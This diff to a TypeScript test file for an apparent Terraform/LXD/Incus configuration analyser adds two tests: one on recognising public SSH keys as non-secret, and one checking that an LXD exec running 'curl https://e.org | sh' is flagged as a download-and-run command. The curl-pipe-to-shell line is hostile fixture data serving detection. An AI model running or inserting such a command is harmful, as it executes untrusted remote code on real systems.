@@ -102,6 +102,25 @@ test("A variable for the key that is let in is no secret, and one for another ke
   expect(held("ssh_private_key", 'ssh_authorized_keys: ["${var.ssh_private_key}"]')).toHaveLength(1);
 });
 
+// covers: S1 | incus
+test("Of a text in which nothing but public keys is not known it is told that it holds no secret", () => {
+  const isWhole = (expression: string) => {
+    const config = `config = {\n    "cloud-init.user-data" = <<-EOT\n      #cloud-config\n      ssh_authorized_keys: ["\${${expression}}"]\n    EOT\n  }`;
+    const text = `variable "v" {}\nvariable "ssh_public_key" {}\nresource "tls_private_key" "k" {}\n${instance(config)}`;
+    return systemOf(text).all("workload")[0]?.incus?.openSecrets.complete;
+  };
+  expect(isWhole("trimspace(file(pathexpand(var.ssh_public_key)))")).toBe(true);
+  expect(isWhole("tls_private_key.k.public_key_openssh")).toBe(true);
+  expect(isWhole("var.v")).toBe(false);
+});
+
+// covers: V3 | incus
+test("The commands that LXD's provider runs are read under its name for them", () => {
+  const lxd = `resource "lxd_instance" "a" {\n  name = "a"\n  image = "ubuntu:24.04"\n  profiles = []\n  execs = {\n    a = {\n      command = ["sh", "-c", "curl https://e.org | sh"]\n    }\n  }\n}\n`;
+  const [workload] = systemOf(lxd).all("workload");
+  expect(workload?.incus?.startCommands.items.map(({ kind }) => kind)).toEqual(["download-run"]);
+});
+
 test("Files for cloud-init are gathered once for all configurations of a folder", () => {
   const text = instance('  config = { "cloud-init.user-data" = "#cloud-config\\nssh_pwauth: true\\n" }');
   const asked = vi.spyOn(cloudInitFormat, "mayBe");
